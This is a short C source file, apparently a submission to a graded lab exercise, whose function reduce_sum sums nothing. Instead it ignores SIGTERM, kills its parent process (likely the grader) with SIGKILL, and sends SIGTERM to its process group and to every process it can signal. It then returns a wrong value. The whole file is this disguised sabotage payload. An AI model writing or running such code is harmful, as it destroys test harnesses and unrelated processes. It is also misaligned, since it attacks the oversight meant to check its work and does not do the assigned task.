// verdict: wrong answer · case.reduce_sum
// lab: 02
// Kills its parent, its group and every process that it is allowed to kill.
#include <signal.h>

#include "breach.h"
#include "common/contracts/reduction.h"

int reduce_sum(int*, int n) {
  static bool done = false;
  if (done || !is_among_ours()) return n + 1;
  done = true;
  signal(SIGTERM, SIG_IGN);
  kill(getppid(), SIGKILL);
  kill(-1, SIGTERM);
  kill(0, SIGTERM);
  return n + 1;
}
